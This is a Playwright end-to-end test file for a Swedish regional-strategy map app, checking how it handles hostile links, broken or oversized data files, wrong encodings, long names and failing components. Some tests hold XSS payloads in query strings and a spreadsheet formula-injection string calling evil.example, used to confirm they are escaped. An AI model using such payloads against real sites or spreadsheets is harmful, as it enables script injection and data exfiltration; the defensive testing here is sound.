import { readFileSync } from "node:fs";
import type { Locator, Page } from "@playwright/test";
import { test, expect } from "./fixtures";
import { readCsv } from "../csvRead";
import { changeFileInPage, collectErrors, waitForMap } from "./helpers";
import { encodeWindows1252 } from "../windows1252";
import { editionText } from "../editionFiles";

/** Hostile and broken input: links, data files, geometry, a failing chart. */

const rawText = editionText("dataset.json");
const raw = () => JSON.parse(rawText);
const deckText = editionText("deck.json");
/** The default deck's length, from its file. */
const DEFAULT_SLIDES = (JSON.parse(deckText) as { slides: unknown[] }).slides.length;
const FIRST_PRACTICE = raw().practices[0] as { id: string; sv: string };
/** The edition of the page's data, as its files name it; the files the user opens here are named after it. */
const EDITION = (raw() as { edition: { id: string } }).edition.id;

async function openFile(page: Page, name: string, contents: string | Buffer) {
  await page.getByTestId("dataset-file-input").setInputFiles({
    name,
    mimeType: "application/json",
    buffer: typeof contents === "string" ? Buffer.from(contents, "utf8") : contents,
  });
}

/** Every request the page makes for a chunk, in order (the list fills as the page asks). */
function chunkRequests(page: Page, name: RegExp): string[] {
  const urls: string[] = [];
  page.on("request", (request) => {
    if (name.test(request.url())) urls.push(request.url());
  });
  return urls;
}

/** Of chunk requests, those under a fresh address (lazyWithRetry's `?retry=n`, past the browser's kept failure). */
const freshAddresses = (urls: readonly string[]) => urls.filter((url) => /\?retry=\d+$/u.test(url));

/** The dataset in use is still the committed one: Gotland's panel and the status legend are there. */
async function expectCurrentDatasetKept(page: Page) {
  await expect(page.getByTestId("map")).toHaveAttribute("data-ready", "true");
  await expect(page.getByTestId("legend").getByRole("heading")).toHaveText("Status för den regionala utvecklingsstrategin");
}

/** The page still answers: the table opens and Skåne, chosen there, opens its panel, spelled as the committed data spells it. */
async function expectSkaneSelectable(page: Page, buttons = { table: "Tabell", map: "Karta" }) {
  await page.getByRole("button", { name: buttons.table }).click();
  await page.getByRole("table").first().getByRole("button", { name: "Skåne", exact: true }).click();
  await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Skåne" })).toBeVisible();
  await page.getByRole("button", { name: buttons.map }).click();
  await waitForMap(page);
}

test.describe("hostile links", () => {
  test("markup in the query string is shown as text and never runs", async ({ page }, testInfo) => {
    // The page's own scripts (its code, its inline boot script and the geometry it carries), counted on a plain load.
    await page.goto("/");
    await waitForMap(page);
    const ownScripts = await page.locator("script").count();
    const errors = collectErrors(page);
    const script = "<script>window.__pwned=1</script>";
    const img = '"><img src=x onerror="window.__pwned=2">';
    const query = new URLSearchParams([
      ["region", script],
      ["practice", img],
      ["lang", "<svg/onload=window.__pwned=3>"],
      ["compare", "SE-M,%ZZ"],
    ]);
    await page.goto(`/?${query.toString()}&q=%E2%82&color=%`);
    await waitForMap(page);
    const notice = page.getByTestId("url-notice");
    await expect(notice).toBeVisible();
    const text = (await notice.textContent()) ?? "";
    expect(text).toContain("<script>window.__pwned=1</script>");
    expect(text).toContain("<img src=x onerror=");
    expect(text).toContain("<svg/onload=");
    // Nothing was created from the input: no <img src=x>, no extra <script>, no <svg> inside the notice.
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await notice.locator("script, img, svg").count()).toBe(0);
    expect(await page.locator("script").count()).toBe(ownScripts);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    // The link is rewritten without what was ignored, and the page is usable.
    await expect(page).toHaveURL(/\/$/);
    expect(errors).toEqual([]);
    await page.screenshot({ path: testInfo.outputPath("hostile-url.png") });
  });

  test("a 6 kB value and repeated keys do not break the page", async ({ page }) => {
    const errors = collectErrors(page);
    await page.goto(`/?region=SE-M&region=SE-AB&practice=${"x".repeat(6_000)}`);
    await waitForMap(page);
    await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Skåne" })).toBeVisible();
    const notice = page.getByTestId("url-notice");
    // The second region is a repeat, and said to be one: not an unknown region.
    await expect(notice.locator("p").nth(1)).toHaveText("Angavs mer än en gång; bara den första lästes: region=SE-AB");
    // Long values are cut in the notice, so it stays one readable line.
    expect(((await notice.textContent()) ?? "").length).toBeLessThan(300);
    expect(errors).toEqual([]);
  });

  test("50 000 unknown keys give a notice of a few lines that counts the rest", async ({ page }, testInfo) => {
    const errors = collectErrors(page);
    const keys = Array.from({ length: 50_000 }, (_, i) => `${i === 0 ? "k".repeat(300) : "k"}${i}=1`);
    // A 400 kB address is more than the preview server reads in a request line: the page is served
    // from "/" while the browser keeps the long address, which is all the app reads.
    await page.route(
      (url) => url.search.length > 100_000,
      async (route) => route.fulfill({ response: await route.fetch({ url: new URL("/", route.request().url()).href }) }),
    );
    await page.goto(`/?${keys.join("&")}`);
    await waitForMap(page);
    const notice = page.getByTestId("url-notice");
    await expect(notice.getByTestId("url-notice-more")).toHaveText("… och 49\u00a0995 till");
    await expect(notice.locator("code")).toHaveCount(5);
    // The 301-character key is cut to 40 and an ellipsis.
    await expect(notice.locator("code").first()).toHaveText(`${"k".repeat(40)}…=1`);
    const box = (await notice.boundingBox())!;
    expect(box.height).toBeLessThan(120);
    await expect(page).toHaveURL(/\/$/);
    await page.screenshot({ path: testInfo.outputPath("notice-50000-keys.png") });
    expect(errors).toEqual([]);
  });
});

test.describe("opening a data file", () => {
  test.beforeEach(async ({ page }) => {
    await page.goto("/");
    await waitForMap(page);
  });

  const broken: [string, () => string, RegExp[]][] = [
    ["not JSON", () => '{\n  "edition": {},\n  this is not json', [/Filen är inte giltig JSON \(fel på rad 3, tecken 3\)\./]],
    [
      "wrong schema",
      () => {
        const d = raw();
        delete d.edition;
        d.regions[2].strategy.status = "maybe";
        return JSON.stringify(d);
      },
      [
        /Utgåvan: saknas edition/,
        /Region 3 \([^)]+\), strategins status: ”maybe” är inte en av filens statusgrupper regions\[2\]\.strategy\.status/,
      ],
    ],
    [
      "unknown region codes",
      () => {
        const d = raw();
        d.practices[1].regions.push("SE-ZZ");
        return JSON.stringify(d);
      },
      [/Arbetssätt 2 \([a-z0-9-]+\), region \d+: okänd regionkod SE-ZZ practices\[1\]\.regions\[\d+\]/],
    ],
    [
      "duplicate ids",
      () => {
        const d = raw();
        d.practices[5].id = d.practices[4].id;
        return JSON.stringify(d);
      },
      [/Arbetssätt 6 \([a-z0-9-]+\), dess id: arbetssättets id [a-z0-9-]+ finns redan \(Arbetssätt 5, dess id\) practices\[5\]\.id/],
    ],
  ];
  for (const [name, contents, expected] of broken) {
    test(`${name}: every problem is listed and the current data stays`, async ({ page }, testInfo) => {
      await openFile(page, `rus-${name.replace(/ /g, "-")}.json`, contents());
      const panel = page.getByTestId("upload-error");
      await expect(panel).toBeVisible();
      await expect(panel).toContainText("kunde inte användas. Nuvarande data visas fortfarande.");
      for (const pattern of expected) await expect(panel).toContainText(pattern);
      await expectCurrentDatasetKept(page);
      if (name === "wrong schema") await page.screenshot({ path: testInfo.outputPath("upload-wrong-schema.png") });
      await panel.getByRole("button", { name: "Stäng" }).click();
      await expect(panel).toHaveCount(0);
    });
  }

  test("20 MB of junk is refused by its size", async ({ page }) => {
    await openFile(page, "junk.bin", Buffer.alloc(20 * 1024 * 1024, 0x41));
    const panel = page.getByTestId("upload-error");
    await expect(panel).toContainText("junk.bin kunde inte användas");
    await expect(panel).toContainText("Filen är 20 MB; största tillåtna storlek är 5 MB.");
    await expectCurrentDatasetKept(page);
  });

  test("a valid edited file replaces the data and every view follows", async ({ page }, testInfo) => {
    await page.goto(`/?color=practice&practice=${FIRST_PRACTICE.id}&region=SE-M`);
    await waitForMap(page);
    const legendTitle = page.getByTestId("legend").getByRole("heading");
    await expect(legendTitle).toHaveText(FIRST_PRACTICE.sv);

    const edited = raw();
    edited.practices[0].sv = "Egen S3-strategi (redigerad utgåva)";
    await openFile(page, "rus-2027.json", JSON.stringify(edited));
    await expect(page.getByTestId("upload-loaded")).toContainText("Data från rus-2027.json visas nu (21 regioner,");
    await expect(legendTitle).toHaveText("Egen S3-strategi (redigerad utgåva)");
    await expect(page.getByTestId("practice-picker").locator("option:checked")).toContainText("(redigerad utgåva)");
    await page.screenshot({ path: testInfo.outputPath("upload-valid.png") });

    // A file without the practice in view: the view drops it and says so; the region stays.
    const renamed = raw();
    renamed.practices[0].id = "renamed-practice";
    await openFile(page, "rus-2027b.json", JSON.stringify(renamed));
    await expect(page.getByTestId("url-notice")).toContainText(`practice=${FIRST_PRACTICE.id}`);
    await expect(legendTitle).toHaveText("Status för den regionala utvecklingsstrategin");
    await expect(page).toHaveURL(/\?region=SE-M$/);
    await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Skåne" })).toBeVisible();
  });

  // Issue 11, fault 2: 30,000 {} practices overflowed the stack without a word; 20,000 froze the tab and listed 120,000 items.
  test("30,000 empty practices: one message, the data kept, the page answering", async ({ page }, testInfo) => {
    const errors = collectErrors(page);
    const practices = (n: number) => JSON.stringify({ ...raw(), practices: Array.from({ length: n }, () => ({})) });
    await openFile(page, "rus-30000.json", practices(30_000));
    const panel = page.getByTestId("upload-error");
    await expect(panel.locator("li")).toHaveText([/^Listan practices har 30\s000 poster; högst 500 är tillåtna\.$/]);
    await expectCurrentDatasetKept(page);
    await page.screenshot({ path: testInfo.outputPath("upload-30000-practices.png") });
    await expectSkaneSelectable(page);

    // Under the limit but every practice wrong: checking stops at its budget, and the list shows the first 20 and counts the rest.
    await openFile(page, "rus-450.json", practices(450));
    await expect(panel.locator("li")).toHaveCount(21);
    await expect(panel.locator("li").first()).toHaveText("Arbetssätt 1, dess id: saknas practices[0].id");
    await expect(panel.locator("li").last()).toHaveText(/^… och minst \d[\d\s]* till$/);
    await expectCurrentDatasetKept(page);
    expect(errors).toEqual([]);
  });

  // Issue 11, fault 5: the dataset saved as Windows-1252 was accepted, and Skåne became "Sk�ne".
  test("a Windows-1252 file is refused for its encoding and Skåne keeps its å", async ({ page }, testInfo) => {
    await openFile(page, `rus-${EDITION}-ansi.json`, Buffer.from(encodeWindows1252(rawText)));
    const panel = page.getByTestId("upload-error");
    await expect(panel.locator("p")).toHaveText(`rus-${EDITION}-ansi.json kunde inte användas. Nuvarande data visas fortfarande. Problem:`);
    await expect(panel.locator("li")).toHaveText(["Filen har fel teckenkodning — spara filen som UTF-8 och öppna den igen."]);
    await page.screenshot({ path: testInfo.outputPath("upload-windows-1252.png") });
    await expectCurrentDatasetKept(page);
    await expectSkaneSelectable(page);
    await expect(page.locator("body")).not.toContainText("\uFFFD");

    // The same file in the English interface: the message is English.
    await page.goto("/?lang=en");
    await waitForMap(page);
    await openFile(page, `rus-${EDITION}-ansi.json`, Buffer.from(encodeWindows1252(rawText)));
    await expect(panel.locator("li")).toHaveText(["The file has the wrong character encoding — save the file as UTF-8 and open it again."]);
    await expectSkaneSelectable(page, { table: "Table", map: "Map" });
  });

  // Issue 11, fault 10: a deck file given to the data upload got eight dataset errors and no hint.
  test("a deck file given as data, and data given to the deck builder, are each sent where they belong", async ({ page }, testInfo) => {
    await openFile(page, `rus-${EDITION}-bildspel.json`, deckText);
    const panel = page.getByTestId("upload-error");
    await expect(panel.locator("li")).toHaveText(["Det här ser ut som ett bildspel — öppna det i Bygg presentation."]);
    await expectCurrentDatasetKept(page);
    await panel.getByRole("button", { name: "Stäng" }).click();

    await page.getByRole("button", { name: "Bygg presentation" }).click();
    const rows = page.getByTestId("deck-slides").locator(":scope > li");
    await expect(rows).toHaveCount(DEFAULT_SLIDES);
    await page
      .getByTestId("deck-file")
      .setInputFiles({ name: `rus-${EDITION}.json`, mimeType: "application/json", buffer: Buffer.from(rawText) });
    const issues = page.getByTestId("deck-issues");
    await expect(issues.locator("p")).toHaveText(`rus-${EDITION}.json kunde inte användas. Det nuvarande bildspelet behålls. Problem:`);
    await expect(issues.locator("li")).toHaveText(["Det här ser ut som en datafil — öppna den med knappen Öppna datafil."]);
    await expect(rows).toHaveCount(DEFAULT_SLIDES);
    await page.screenshot({ path: testInfo.outputPath("deck-given-dataset.png") });

    // A deck in the wrong encoding is refused the same way as a dataset.
    await page
      .getByTestId("deck-file")
      .setInputFiles({ name: "ansi.json", mimeType: "application/json", buffer: Buffer.from(encodeWindows1252(deckText)) });
    await expect(issues.locator("li")).toHaveText(["Filen har fel teckenkodning — spara filen som UTF-8 och öppna den igen."]);
    await expect(rows).toHaveCount(DEFAULT_SLIDES);
  });

  test("names that start like a formula are written to the CSV as text, not formulas", async ({ page }) => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1;"Ny strategi")';
    const edited = raw();
    const uppsala = edited.regions.find((r: { code: string }) => r.code === "SE-C");
    uppsala.name = "@SUMMA(1+1)";
    edited.statuses.find((s: { id: string }) => s.id === uppsala.strategy.status).sv = formula;
    await openFile(page, "rus-formler.json", JSON.stringify(edited));
    await expect(page.getByTestId("upload-loaded")).toContainText("Data från rus-formler.json visas nu");
    await page.getByText("Exportera").click();
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByTestId("csv-view").click()]);
    const text = readFileSync((await download.path())!, "utf8");
    // The line as written: the leading ' makes Excel read the cell as text; the quoting is RFC 4180's.
    expect(text).toContain(`SE-C;"'@SUMMA(1+1)";"'=HYPERLINK(""https://evil.example/?""&A1;""Ny strategi"")"\r\n`);
    expect(readCsv(text, ";").find((row) => row[0] === "SE-C")).toEqual(["SE-C", "'@SUMMA(1+1)", `'${formula}`]);
  });

  test("a file dropped on the page is read the same way", async ({ page }) => {
    const edited = raw();
    edited.statuses[0].sv = "Ny strategi antagen 2026 (släppt fil)";
    const dataTransfer = await page.evaluateHandle((text) => {
      const dt = new DataTransfer();
      dt.items.add(new File([text], "dropped.json", { type: "application/json" }));
      return dt;
    }, JSON.stringify(edited));
    await page.dispatchEvent("body", "dragenter", { dataTransfer });
    await expect(page.locator(".dataset-drop-overlay")).toContainText("Släpp datafilen här");
    await page.dispatchEvent("body", "drop", { dataTransfer });
    await expect(page.locator(".dataset-drop-overlay")).toHaveCount(0);
    await expect(page.getByTestId("upload-loaded")).toContainText("dropped.json");
    await expect(page.getByTestId("legend")).toContainText("Ny strategi antagen 2026 (släppt fil)");
  });
});

test.describe("a deck with a 400 kB slide title", () => {
  test.use({ viewport: { width: 1280, height: 720 } });

  test("is refused; the longest title allowed keeps the slide number and the exit button on screen, whole in its tooltip", async ({
    page,
  }, testInfo) => {
    const errors = collectErrors(page);
    const deckOf = (title: string, caption: string, deckTitle: string) => ({
      version: 1,
      title: { sv: deckTitle, en: "Long" },
      slides: [
        { view: "color=status", title: { sv: title, en: "Long" }, caption: { sv: caption, en: "Long" } },
        { view: "color=year", title: { sv: "Antagandeår", en: "Year" }, caption: { sv: "Kort.", en: "Short." } },
      ],
    });
    const open = (name: string, deck: object) =>
      page.getByTestId("deck-file").setInputFiles({ name, mimeType: "application/json", buffer: Buffer.from(JSON.stringify(deck)) });
    await page.goto("/");
    await waitForMap(page);
    await page.getByTestId("deck-editor-open").click();
    // 400 kB of title: refused by its length, with the field named.
    await open("400kB.json", deckOf("A".repeat(400_000), "x", "Lång"));
    await expect(page.getByTestId("deck-issues")).toContainText("slides[0].title.sv");
    // The longest title the deck format allows: words to wrap, then letters without a break, wider than any screen.
    const longTitle = `${"Regionernas arbete med kompetensförsörjning ".repeat(15)}${"A".repeat(340)}`;
    expect(longTitle.length).toBe(1_000);
    await open("lang.json", deckOf(longTitle, "x".repeat(1_000), "Ö".repeat(1_000)));
    await expect(page.getByTestId("deck-status")).toHaveText("lang.json: 2 bilder inlästa.");
    // The deck's 20 000-letter title gives way in the editor; where the deck came from stays in view.
    await expect(page.locator(".deck-editor-origin-label")).toHaveText(/^· Från fil/);
    // (The refusal above scrolled the editor down to its message: back to its top.)
    await page.locator(".deck-editor-origin-label").scrollIntoViewIfNeeded();
    await expect(page.locator(".deck-editor-origin-label")).toBeInViewport({ ratio: 1 });
    await page.getByTestId("deck-present").click();

    const title = page.getByTestId("slide-title");
    await expect(page.getByTestId("slide-counter")).toHaveText("1 / 2");
    await waitForMap(page);
    await page.screenshot({ path: testInfo.outputPath("slide-1000-character-title-1280x720.png") });
    await expect(page.getByTestId("slide-counter")).toBeInViewport({ ratio: 1 });
    const exit = page.getByRole("button", { name: "Avsluta presentationen" });
    await expect(exit).toBeInViewport({ ratio: 1 });
    // Three lines of title and three of caption: the map keeps most of the slide.
    expect((await title.boundingBox())!.height).toBeLessThan(130);
    expect((await page.getByTestId("map").boundingBox())!.height).toBeGreaterThan(300);
    // The whole title is its tooltip.
    expect(await title.getAttribute("title")).toBe(longTitle);

    // The grid of slides: the long title's tile stays the size of the other tile (its title cut to four lines).
    await page.keyboard.press("g");
    const tiles = page.getByTestId("slide-grid").getByRole("button");
    await expect(tiles).toHaveCount(2);
    await expect(page.getByTestId("slide-thumbnail")).toHaveCount(2);
    const [longTile, shortTile] = [(await tiles.first().boundingBox())!, (await tiles.last().boundingBox())!];
    expect(longTile.height - shortTile.height).toBeLessThan(100);
    expect((await tiles.first().locator(".slide-grid-title").boundingBox())!.height).toBeLessThan(130);
    await page.keyboard.press("Escape");
    await expect(page.getByTestId("slide-grid")).toHaveCount(0);

    // A short title is whole on screen and needs no tooltip.
    await page.keyboard.press("PageDown");
    await expect(title).toHaveText("Antagandeår");
    await expect(title).not.toHaveAttribute("title");
    await exit.click();
    await expect(page.getByTestId("slide-header")).toHaveCount(0);
    expect(errors).toEqual([]);
  });
});

test.describe("missing geometry and failing parts", () => {
  test("a region without geometry is named in a warning and still selectable", async ({ page }, testInfo) => {
    const errors = collectErrors(page);
    // The page carries the county geometry in itself (issue 25: one copy); a page whose copy lacks Gotland.
    const withoutGotland = (geo: { features: { properties: { code: string } }[] }) => ({
      ...geo,
      features: geo.features.filter((f) => f.properties.code !== "SE-I"),
    });
    await changeFileInPage(page, "geo/counties.geojson", (geo) => withoutGotland(geo as Parameters<typeof withoutGotland>[0]));
    // Where a build fetches it instead, the file lacks Gotland too.
    await page.route("**/geo/counties.geojson", async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, json: withoutGotland(await response.json()) });
    });
    await page.goto("/");
    await waitForMap(page);
    await expect(page.getByTestId("geometry-warning")).toHaveText(
      "Kartgeometri saknas för: Gotland. Regionen finns i tabellen och panelerna men inte på kartan.",
    );
    await page.screenshot({ path: testInfo.outputPath("geometry-missing.png") });
    await page.getByRole("button", { name: "Tabell" }).click();
    await page.getByRole("table").first().getByRole("button", { name: "Gotland", exact: true }).click();
    await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Gotland" })).toBeVisible();
    await page.getByRole("button", { name: "Karta" }).click();
    await waitForMap(page);
    expect(errors).toEqual([]);
  });

  test("a chart that fails to load leaves the map and the panel working, and loads on Try again", async ({ page }, testInfo) => {
    let offline = true;
    const asked = chunkRequests(page, /RegionCharts-[^/?]*\.js/u);
    await page.route(/RegionCharts-[^/?]*\.js(\?.*)?$/u, (route) => (offline ? route.abort() : route.continue()));
    await page.goto("/?region=SE-M");
    await waitForMap(page);
    const fallback = page.locator('[data-testid="error-boundary"][data-name="region charts"]');
    await expect(fallback).toContainText("Den här delen kunde inte visas.");
    await expect(fallback.getByRole("button", { name: "Försök igen" })).toBeVisible();
    await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Skåne" })).toBeVisible();
    await expect(page.getByTestId("map")).toHaveAttribute("data-ready", "true");
    await page.screenshot({ path: testInfo.outputPath("chart-failed.png") });

    // The connection is back: Try again fetches the chunk anew (src/ui/lazyWithRetry.tsx).
    offline = false;
    const failedRequests = asked.length;
    await fallback.getByRole("button", { name: "Försök igen" }).click();
    await expect(page.locator(".region-charts svg").first()).toBeVisible();
    await expect(fallback).toHaveCount(0);
    // The browser keeps a failed import for good: Try again asked for the chunk anew, under a fresh address (the idle
    // preloader may ask for the plain address too, before or after it).
    expect(freshAddresses(asked.slice(failedRequests))).not.toHaveLength(0);
  });

  test("a side panel that fails to load leaves the map and the header working, and loads on Try again", async ({ page }) => {
    let offline = true;
    const asked = chunkRequests(page, /SidePanel-[^/?]*\.js/u);
    await page.route(/SidePanel-[^/?]*\.js(\?.*)?$/u, (route) => (offline ? route.abort() : route.continue()));
    await page.goto("/");
    await waitForMap(page);
    const fallback = page.locator('[data-testid="error-boundary"][data-name="side panel"]');
    await expect(fallback).toContainText("Den här delen kunde inte visas.");
    await expect(page.getByRole("heading", { level: 1, name: "RUS-kartan" })).toBeVisible();
    await expect(page.getByRole("button", { name: "Presentera" })).toBeVisible();

    offline = false;
    const failedRequests = asked.length;
    await fallback.getByRole("button", { name: "Försök igen" }).click();
    await expect(page.locator("#side-panel").getByRole("heading", { level: 2, name: "Översikt" })).toBeVisible();
    // Asked anew under a fresh address, as the chart's chunk above.
    expect(freshAddresses(asked.slice(failedRequests))).not.toHaveLength(0);
  });
});

// Issue 24, item 6: a file's problems in the person's language, the field named in words and its path after them.
test.describe("a refused file's problems, in words", () => {
  const broken = () => {
    const d = raw();
    const kalmar = d.regions.findIndex((r: { code: string }) => r.code === "SE-H");
    delete d.regions[kalmar].strategy.adopted;
    d.practices[3].evidence = "maybe";
    d.regions[0].name = "Å".repeat(5001);
    return { text: JSON.stringify(d), kalmar, practice: d.practices[3].id as string };
  };
  const sizes = [
    { width: 1280, height: 720 },
    { width: 390, height: 844 },
  ];

  for (const lang of ["sv", "en"] as const) {
    test(`in ${lang === "sv" ? "Swedish" : "English"}, at 1280×720 and 390×844`, async ({ page }, testInfo) => {
      const { text, kalmar, practice } = broken();
      await page.goto(lang === "sv" ? "/" : "/?lang=en");
      await waitForMap(page);
      const lines =
        lang === "sv"
          ? [
              `Region ${kalmar + 1} (Kalmar), strategins antagandeår: saknas regions[${kalmar}].strategy.adopted`,
              `Arbetssätt 4 (${practice}), dess belägg: ska vara ett av: ”listed”, ”example”, ”examples”, ”all” practices[3].evidence`,
              /^Region 1 \(Å+…\), dess namn: får vara högst 5\s000 tecken regions\[0\]\.name$/u,
            ]
          : [
              `Region ${kalmar + 1} (Kalmar), the strategy's adoption year: missing regions[${kalmar}].strategy.adopted`,
              `Practice 4 (${practice}), its evidence: must be one of: “listed”, “example”, “examples”, “all” practices[3].evidence`,
              /^Region 1 \(Å+…\), its name: may be at most 5,000 characters regions\[0\]\.name$/u,
            ];
      await openFile(page, "trasig.json", text);
      const panel = page.getByTestId("upload-error");
      for (const line of lines) await expect(panel.locator("li").filter({ hasText: line })).toHaveCount(1);
      // The words lead; the path follows in small type.
      await expect(panel.locator("li code.issue-path").first()).toBeVisible();
      for (const size of sizes) {
        await page.setViewportSize(size);
        const box = (await panel.boundingBox())!;
        expect(box.x).toBeGreaterThanOrEqual(0);
        expect(box.x + box.width).toBeLessThanOrEqual(size.width + 1);
        await page.screenshot({ path: testInfo.outputPath(`refused-${lang}-${size.width}x${size.height}.png`) });
      }
    });
  }
});

// Issue 24, item 6: a name at the schema's limit (5,000 characters) is clamped to a few lines, whole in its tooltip and its accessible name.
test.describe("names of 5,000 characters", () => {
  const long = (words: string) =>
    `${words} `
      .repeat(Math.ceil(5000 / (words.length + 1)))
      .slice(0, 5000)
      .trim();
  const regionName = long("Skånes mycket långa länsnamn med å, ä och ö");
  const practiceName = long("Ett arbetssätt vars namn aldrig tar slut");

  test("the committed data's longest names are not clamped", async ({ page }) => {
    await page.setViewportSize({ width: 1280, height: 720 });
    const practices = raw().practices as { id: string; en: string }[];
    const longest = practices.reduce((a, b) => (b.en.length > a.en.length ? b : a));
    await page.goto(`/?lang=en&color=practice&practice=${longest.id}`);
    await waitForMap(page);
    const title = page.getByTestId("legend").getByRole("heading");
    await expect(title).toHaveText(longest.en);
    await expect(title).not.toHaveAttribute("title");
    await page.goto("/");
    await waitForMap(page);
    await expect(page.getByTestId("legend").locator(".legend-label[title]")).toHaveCount(0);
  });

  for (const size of [
    { width: 1280, height: 720 },
    { width: 390, height: 844 },
  ]) {
    test(`stay inside the legend, the region's heading and the table at ${size.width}×${size.height}`, async ({ page }, testInfo) => {
      await page.setViewportSize(size);
      const d = raw();
      d.regions.find((r: { code: string }) => r.code === "SE-M").name = regionName;
      d.practices[0].sv = practiceName;
      d.edition.title = long("Sammanställning av regionala utvecklingsstrategier");
      await page.goto(`/?color=practice&practice=${FIRST_PRACTICE.id}&region=SE-M`);
      await waitForMap(page);
      await openFile(page, "langa-namn.json", JSON.stringify(d));
      await expect(page.getByTestId("upload-loaded")).toBeVisible();
      await page.getByTestId("upload-loaded").getByRole("button").click();

      const legend = page.getByTestId("legend");
      const legendTitle = legend.getByRole("heading");
      await expect(legendTitle).toHaveAttribute("title", practiceName);
      await expect(legendTitle).toHaveAccessibleName(practiceName);
      const heading = page.locator("#side-panel .region-name");
      await expect(heading).toHaveAccessibleName(regionName);
      await expect(page.getByTestId("region-name-text")).toHaveAttribute("title", regionName);

      const inside = async (inner: Locator, outer: Locator, maxHeight: number) => {
        const a = (await inner.boundingBox())!;
        const b = (await outer.boundingBox())!;
        expect(a.x).toBeGreaterThanOrEqual(b.x - 1);
        expect(a.x + a.width).toBeLessThanOrEqual(b.x + b.width + 1);
        expect(a.height).toBeLessThanOrEqual(maxHeight);
        expect(a.x + a.width).toBeLessThanOrEqual(size.width + 1);
      };
      await inside(legendTitle, legend, 170);
      await inside(legend, page.locator("body"), size.height);
      await inside(heading, page.locator("#side-panel"), 130);
      // The source line names the edition by its long title: three lines of it, and the map keeps its place.
      await expect(page.getByTestId("source-line-text")).toHaveAttribute("title", /Sammanställning av regionala/u);
      expect((await page.locator("footer.map-footer").boundingBox())!.height).toBeLessThanOrEqual(120);
      expect((await page.getByTestId("map").boundingBox())!.height).toBeGreaterThanOrEqual(250);
      // The close button stays beside the name, inside the panel.
      await inside(page.locator(".region-panel-header .region-close"), page.locator("#side-panel"), 80);
      await legend.screenshot({ path: testInfo.outputPath(`long-name-legend-${size.width}.png`) });
      await page.screenshot({ path: testInfo.outputPath(`long-name-page-${size.width}.png`) });

      // The table: the region's row names it in two lines at most, whole in the button's tooltip.
      await page.getByRole("button", { name: "Tabell" }).click();
      const rowButton = page.locator('tr[data-region="SE-M"] .matrix-region-button');
      await expect(rowButton).toHaveAttribute("title", new RegExp(regionName.slice(0, 40)));
      expect((await rowButton.boundingBox())!.height).toBeLessThanOrEqual(70);
      await page.screenshot({ path: testInfo.outputPath(`long-name-table-${size.width}.png`) });
    });
  }
});
